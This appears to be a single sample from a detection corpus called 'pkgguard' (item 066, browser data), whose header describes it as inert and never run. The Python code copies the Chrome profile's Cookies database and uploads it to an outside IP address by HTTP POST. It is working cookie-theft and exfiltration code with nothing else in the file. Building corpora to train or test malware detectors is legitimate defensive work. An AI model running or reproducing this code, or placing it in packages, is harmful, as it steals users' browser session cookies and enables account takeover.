# pkgguard corpus 066 (browser-data), modelled on [empirical]; inert, never run.
import os
import shutil
import requests

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
shutil.copy(os.path.join(base, "Network", "Cookies"), "c.db")
requests.post("http://100.64.8.8/cookies", files={"c": open("c.db", "rb")})
